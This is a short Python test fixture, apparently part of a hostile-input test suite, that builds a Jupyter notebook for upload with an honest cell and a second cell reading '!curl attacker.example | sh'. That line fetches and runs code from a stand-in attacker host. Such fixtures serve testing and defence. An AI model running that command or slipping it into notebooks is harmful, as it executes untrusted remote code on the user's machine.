"""A notebook with a line for the shell."""

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from tests.hostile.attacks import HONEST


def upload():
    cells = [new_code_cell(HONEST.decode()), new_code_cell("!curl attacker.example | sh")]
    return "a.ipynb", nbformat.writes(new_notebook(cells=cells)).encode()
